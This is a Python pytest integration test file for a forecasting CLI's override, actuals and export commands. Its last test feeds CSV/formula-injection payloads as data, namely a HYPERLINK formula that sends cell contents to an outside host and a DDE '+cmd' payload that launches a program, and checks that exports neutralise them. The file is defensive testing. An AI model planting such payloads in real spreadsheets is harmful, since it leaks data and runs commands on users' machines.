"""The planner's commands where trust breaks, on a copy of a real demo store: a stale
workbook, a closed cycle, a change far from the forecast, actuals past the horizon, text
that would run in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
import test_plan_cli as base
from openpyxl import load_workbook

from sopforecast.cli import main

demo_workdir, work, _user = base.demo_workdir, base.work, base._user  # the same fixtures
run, store, indexed, write_overrides = base.run, base.store, base.indexed, base.write_overrides

pytestmark = pytest.mark.integration


def _export(work, capsys, name="plan.xlsx"):
    book = work / name
    code, _, err = run(capsys, "plan", "export", "--layout", "planner", "--output", book, "--workdir", work)
    assert code == 0, err
    return book


def _bottom_cells(work, n=2):
    lines = store(work).lines(1)
    months = sorted(lines["ds"].unique())
    bottom = lines[lines["level"] == lines["level"].iloc[-1]]["unique_id"].unique()
    return lines, [(bottom[i], pd.Timestamp(months[2 + i])) for i in range(n)]


def test_a_stale_workbook_is_refused_naming_the_cells_unless_rebased(work, capsys):
    lines, [(key, month), (other, later)] = _bottom_cells(work)
    book = _export(work, capsys)
    # meanwhile another planner changes the plan from an override file
    value = round(float(indexed(lines).loc[(key, month), "statistical"]) * 1.5 + 1, 3)
    path = write_overrides(work / "o.csv", [(key, f"{month:%Y-%m}", value, "ben", "key account")])
    code, _, err = run(capsys, "override", "apply", path, "--workdir", work)
    assert code == 0, err
    base._edit_consensus(book, {(other, f"{later:%Y-%m}"): 42.0})
    before = store(work).overrides()

    args = ["override", "apply", book, "--author", "ana", "--reason", "review", "--workdir", work]
    code, _, err = run(capsys, *args)
    text = " ".join(err.split())
    assert code == 2 and "has moved" in text and key in text and f"{month:%Y-%m}" in text
    assert "--rebase" in text and "Traceback" not in err
    pd.testing.assert_frame_equal(store(work).overrides(), before)  # nothing applied

    code, out, err = run(capsys, *args, "--rebase")
    assert code == 0, err
    now = store(work)
    current = now.version()
    active = now.overrides(current)
    assert set(zip(active["key"], active["author"], strict=True)) == {(key, "ben"), (other, "ana")}
    assert indexed(now.lines(current)).loc[(key, month), "final"] == pytest.approx(value)  # ben's kept


def test_a_workbook_apply_names_who_and_why(work, capsys, monkeypatch):
    book = _export(work, capsys)
    monkeypatch.delenv("SOPFORECAST_USER")
    code, _, err = run(capsys, "override", "apply", book, "--reason", "x", "--workdir", work)
    assert code == 2 and "--author" in err
    code, _, err = run(capsys, "override", "apply", book, "--author", "ana", "--workdir", work)
    assert code == 2 and "--reason" in err


def test_a_change_far_from_the_forecast_is_applied_with_a_warning(work, capsys):
    lines, [(key, month), _] = _bottom_cells(work)
    stat = float(indexed(lines).loc[(key, month), "statistical"])
    path = write_overrides(
        work / "o.csv", [(key, f"{month:%Y-%m}", round(stat * 40 + 400, 1), "ana", "deal")]
    )
    code, out, err = run(capsys, "override", "apply", path, "--workdir", work)
    assert code == 0, err
    assert "Warning" in out and key in out and "beyond 5x" in out
    code, out, err = run(capsys, "override", "apply", path, "--max-factor", "100", "--workdir", work)
    assert code == 0 and "Warning" not in out


def test_a_closed_cycle_is_refused_unless_reopened(work, capsys):
    lines = store(work).lines(1)
    first = pd.Timestamp(lines["ds"].min())
    bottom = store(work).bottom(1)
    actual = bottom[["unique_id"]].assign(ds=first, y=10.0)
    keys = [c for c in bottom.columns if c != "unique_id"]
    actual = actual.merge(bottom, on="unique_id")[[*keys, "ds", "y"]]
    actual.to_csv(work / "actuals.csv", index=False)
    code, _, err = run(capsys, "actuals", "load", work / "actuals.csv", "--workdir", work)
    assert code == 0, err
    _, [(key, month), _] = _bottom_cells(work)
    path = write_overrides(work / "o.csv", [(key, f"{month:%Y-%m}", 5.0, "ana", "late change")])
    code, _, err = run(capsys, "override", "apply", path, "--workdir", work)
    assert code == 2 and "is closed" in err and "--reopen" in err
    code, out, err = run(capsys, "override", "apply", path, "--reopen", "customer recount", "--workdir", work)
    assert code == 0, err
    assert store(work).version().reopen_reason == "customer recount"


def test_actuals_after_the_plan_horizon_are_refused(work, capsys):
    lines = store(work).lines(1)
    bottom = store(work).bottom(1)
    keys = [c for c in bottom.columns if c != "unique_id"]
    late = bottom.head(1).assign(ds=pd.Timestamp("2098-01-01"), y=3.0)[[*keys, "ds", "y"]]
    late.to_csv(work / "late.csv", index=False)
    before = store(work).actuals(store(work).version().plan)
    code, _, err = run(capsys, "actuals", "load", work / "late.csv", "--workdir", work)
    assert code == 2 and "after the end of the plan horizon" in " ".join(err.split()) and "2098-01-01" in err
    assert len(store(work).actuals(store(work).version().plan)) == len(before)
    assert pd.Timestamp(lines["ds"].max()) < pd.Timestamp("2098-01-01")


def test_text_a_planner_types_never_runs_in_a_spreadsheet(work, capsys):
    _, [(key, month), _] = _bottom_cells(work)
    evil = '=HYPERLINK("http://x/?"&A1,"open")'
    path = write_overrides(work / "o.csv", [(key, f"{month:%Y-%m}", 7.0, evil, "+cmd|' /C calc'!A0")])
    code, _, err = run(capsys, "override", "apply", path, "--workdir", work)
    assert code == 0, err
    for name in ("plan.xlsx", "plan.csv"):
        target = work / name
        code, _, err = run(capsys, "plan", "export", "--output", target, "--workdir", work)
        assert code == 0, err
    wb = load_workbook(work / "plan.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + evil for c in cells)
    rows = list(csv.reader(io.StringIO((work / "plan.csv").read_text())))
    found = [v for r in rows for v in r if evil in v]
    assert found and set(found) == {"'" + evil}  # the line and its aggregates, each neutralised
    # the override listing for scripts too
    capsys.readouterr()
    assert main(["override", "list", "--format", "csv", "--workdir", str(work)]) == 0
    listed = capsys.readouterr().out
    assert "'" + evil.replace('"', '""') in listed and "'+cmd" in listed
